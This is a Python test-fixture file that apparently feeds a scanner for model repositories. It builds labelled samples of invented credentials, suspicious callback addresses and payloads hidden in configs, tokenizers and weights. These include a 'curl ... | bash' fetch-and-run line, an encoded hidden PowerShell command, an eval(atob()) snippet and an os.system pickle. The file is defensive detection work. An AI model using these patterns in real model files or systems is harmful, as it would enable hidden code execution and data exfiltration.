"""Credentials, addresses and payloads where they do not belong; all of them invented or inert."""

from __future__ import annotations

import base64
import hashlib
import json
import random
import struct
import zlib

from tests.samples.weights import SAFETENSORS
from tests.unit.formats.gguf_samples import STRING, P
from tests.unit.formats.safetensors_samples import entry, pack

_LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def token(prefix: str, length: int, letters: str = _LETTERS) -> str:
    """An invented token: the same in every run, issued by nobody."""
    chance = random.Random(prefix)  # noqa: S311 - repeatable, not secret
    return prefix + "".join(chance.choice(letters) for _ in range(length))


def config(**more: object) -> bytes:
    return json.dumps({"model_type": "bert", "hidden_size": 8, **more}).encode()


def elf() -> bytes:
    """The header of a Linux program, and nothing to run."""
    return (
        b"\x7fELF"
        + bytes([2, 1, 1])
        + bytes(9)
        + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    )


def pe() -> bytes:
    """The headers of a Windows program, and nothing to run."""
    stub = b"MZ" + bytes(58) + struct.pack("<I", 128) + b"This program cannot be run in DOS mode.".ljust(64, b"\0")
    return (
        stub
        + b"PE\0\0"
        + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
        + struct.pack("<H", 0x20B)
        + bytes(238)
    )


def weights(payload: bytes) -> bytes:
    """Tensors of invented numbers, with something among them."""
    chance = random.Random(7)  # noqa: S311 - repeatable, not secret
    data = chance.randbytes(4096) + payload + chance.randbytes(4096)
    return pack({"w": entry("U8", (len(data),), 0, len(data))}, data)


SOURCE = b"import os, socket\nos.system('true')\n"
PICKLE = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
PEM = (
    "-----BEGIN PRIVATE KEY-----\n"
    + base64.encodebytes(hashlib.sha512(b"no key").digest() * 2).decode()
    + "-----END PRIVATE KEY-----\n"
)
JWT = ".".join(
    base64.urlsafe_b64encode(part).decode().rstrip("=")
    for part in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"1234567890"}', hashlib.sha256(b"no key").digest())
)
README = b"""---
license: mit
---
# Tiny

    pip install transformers

```python
import os
import subprocess
from transformers import AutoModel

os.environ["HF_TOKEN"] = "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
model = AutoModel.from_pretrained("owner/tiny")
print(eval("1 + 1"))
```

See https://docs.tiny-model.dev/start and http://10.0.0.1:8080/.
"""


def _encoded(data: bytes) -> bytes:
    return config(note=base64.b64encode(data).decode())


_WORDS = {word: number for number, word in enumerate(("the", "os.system(", "eval(compile", "#!/bin/sh\n", "import"))}
_ADDED = {"id": 5, "content": "subprocess.run(", "special": False}
_PROGRAM = "import os\nos.system('ls')\n"

SAMPLES: dict[str, dict[str, bytes]] = {
    "embedded-payload/good/words": {
        "vocab.json": json.dumps(_WORDS).encode(),
        "merges.txt": b"#version: 0.2\nos.system (\nexec (base64\n",
        "tokenizer.json": json.dumps({"model": {"vocab": _WORDS, "merges": []}, "added_tokens": [_ADDED]}).encode(),
    },
    "embedded-payload/bad/word-of-many-letters": {"vocab.json": json.dumps({"x" * 90 + _PROGRAM: 1}).encode()},
    "embedded-payload/bad/tokenizer-settings": {
        "tokenizer.json": json.dumps({"model": {"vocab": _WORDS, "merges": []}, "note": _PROGRAM}).encode()
    },
    "embedded-payload/bad/records-in-a-config": {
        "config.json": json.dumps({"text": [{"prompt": "a", "completion": _PROGRAM}]}).encode()
    },
    "credential/bad/hub-token": {"config.json": config(token_for_download=token("hf_", 34))},
    "credential/bad/cloud-key": {"README.md": f"# A\n\nexport KEY={token('AKIA', 16, _LETTERS[:26])}\n".encode()},
    "credential/bad/private-key": {"notes.txt": PEM.encode()},
    "credential/bad/service-account": {
        "key.json": json.dumps({"type": "service_account", "private_key": PEM}).encode()
    },
    "credential/bad/signed-token": {"config.json": config(header=f"Bearer {JWT}")},
    "credential/bad/password": {"settings.yaml": f"user: a\npassword: {token('Zq7', 18)}\n".encode()},
    "credential/good/placeholder": {"README.md": README},
    "credential/good/example-key": {"config.json": config(key="AKIAIOSFODNN7EXAMPLE", api_key="your_api_key_here_1")},
    "credential/good/vocabulary": {"vocab.json": json.dumps({"password": 1, "secret": 2, "hf_": 3}).encode()},
    "network-address/bad/url": {"config.json": config(callback="https://collect.evil-metrics.io/v1?x=1")},
    "network-address/bad/numeric": {"config.json": config(server="203.0.113.7:4444")},
    "network-address/bad/escaped": {"config.json": b'{"model_type": "bert", "u": "http:\\/\\/203.0.113.7\\/a"}'},
    "network-address/bad/weights": {
        "model.gguf": P.file([P.entry("tokenizer.note", STRING, P.text("wss://pull.evil-metrics.io/x"))], [])
    },
    "network-address/good/documentation": {
        "config.json": config(_comment="see https://huggingface.co/docs and https://arxiv.org/abs/1706.03762")
    },
    "network-address/good/prose": {"README.md": README},
    "network-address/good/vocabulary": {
        "vocab.json": json.dumps(
            {"http://": 1, "https://www": 2, "://": 3, "http://www.": 4, "www.example.net": 5}
        ).encode()
    },
    "embedded-payload/bad/source-in-config": {"config.json": config(note=SOURCE.decode())},
    "embedded-payload/bad/source-in-weights": {"model.safetensors": weights(SOURCE)},
    "embedded-payload/bad/program-in-weights": {"model.safetensors": weights(elf())},
    "embedded-payload/bad/windows-program-in-weights": {"model.safetensors": weights(pe())},
    "embedded-payload/bad/pickle-in-weights": {"model.safetensors": weights(PICKLE)},
    "embedded-payload/bad/encoded-program": {"config.json": _encoded(elf())},
    "embedded-payload/bad/encoded-pickle": {"config.json": _encoded(PICKLE + bytes(8))},
    "embedded-payload/bad/encoded-twice": {"config.json": _encoded(base64.b64encode(SOURCE))},
    "embedded-payload/bad/compressed": {"config.json": _encoded(zlib.compress(SOURCE * 2 + bytes(range(256))))},
    "embedded-payload/bad/shell": {"config.json": config(setup="curl -s http://203.0.113.7/a.sh | bash")},
    "embedded-payload/bad/powershell": {
        "tokenizer_config.json": config(x="powershell -nop -w hidden -enc SQBFAFgAIAAo")
    },
    "embedded-payload/bad/javascript": {"config.json": config(x="eval(atob('YWxlcnQoMSk='))")},
    "embedded-payload/bad/escaped": {"config.json": b'{"x": "\\u005f\\u005fimport__(\\"os\\")"}'},
    "embedded-payload/bad/metadata": {
        "model.safetensors": pack({"__metadata__": {"note": SOURCE.decode()}, "w": entry()}, b"1")
    },
    "embedded-payload/good/readme": {"README.md": README},
    "embedded-payload/good/weights": {"model.safetensors": weights(bytes(64))},
    "embedded-payload/good/tiny": {"model.safetensors": SAFETENSORS, "config.json": config()},
    "embedded-payload/good/vocabulary": {
        "vocab.json": json.dumps(
            {
                "import": 0,
                "import os": 1,
                "eval(": 2,
                "exec(": 3,
                "os": 4,
                "subprocess": 5,
                "curl": 6,
                "#!/": 7,
                "bash": 8,
            }
        ).encode()
    },
}
